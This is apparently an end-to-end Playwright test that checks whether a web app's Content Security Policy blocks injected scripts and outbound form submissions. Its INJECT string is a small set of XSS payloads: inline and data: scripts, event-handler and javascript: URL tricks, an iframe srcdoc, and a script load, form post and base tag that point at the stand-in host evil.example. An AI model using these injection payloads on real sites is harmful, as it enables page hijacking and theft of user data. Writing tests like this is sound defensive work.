"""Whatever gets into a page by mistake: it does not run there."""

import pytest
from playwright.async_api import expect

from tests.e2e.company import Company
from tests.e2e.screens import PATIENCE_S, Screens, bring_cookies, new_page
from tests.programs import eventually

pytestmark = [pytest.mark.xdist_group("whole program"), pytest.mark.browser]

DIRECTIVES = ("script-src", "form-action", "base-uri")
# each would say so in `window.ran`
INJECT = """
async () => {
  window.ran = [];
  const inline = document.createElement("script");
  inline.textContent = "window.ran.push('inline')";
  document.body.append(inline);
  const data = document.createElement("script");
  data.src = "data:text/javascript,window.ran.push('data')";
  document.body.append(data);
  const elsewhere = document.createElement("script");
  elsewhere.src = "https://evil.example/x.js";
  document.body.append(elsewhere);
  const box = document.createElement("div");
  box.innerHTML = `
    <img src="/nothing.png" onerror="window.ran.push('onerror')">
    <svg onload="window.ran.push('onload')"></svg>
    <a id="bad" href="javascript:window.ran.push('href')">press</a>
    <iframe srcdoc="<script>parent.ran.push('srcdoc')</script>"></iframe>
    <form id="away" action="https://evil.example/"><input name="secret"></form>`;
  const img = box.querySelector("img");
  const failed = new Promise((done) => img.addEventListener("error", done));
  document.body.append(box);
  document.getElementById("bad").click();
  document.getElementById("away").submit();
  const base = document.createElement("base");
  base.href = "https://evil.example/";
  document.head.append(base);
  await failed;
}
"""


@pytest.mark.parametrize("path", ["/sign-in", "/incidents", "/me?tab=security"])
async def test_no_injected_script_runs_and_no_form_leaves(
    company: Company, screens: Screens, path: str
) -> None:
    # not a screen that fails when the browser complains: it is to complain
    context = await screens.browser.new_context(base_url=company.address)
    screens.contexts.push_async_callback(context.close)
    if path != "/sign-in":
        await bring_cookies(context, company.ana, company.address)
    page = await new_page(context)
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    await page.goto(path)
    await expect(page.get_by_role("heading").first).to_be_visible()

    await page.evaluate(INJECT)

    async def all_are_refused() -> bool:
        said = " ".join(refused)
        return all(directive in said for directive in DIRECTIVES)

    await eventually(all_are_refused, PATIENCE_S)
    assert await page.evaluate("window.ran") == []
    assert await page.evaluate("document.baseURI.startsWith(location.origin)")
    assert page.url == f"{company.address}{path}"
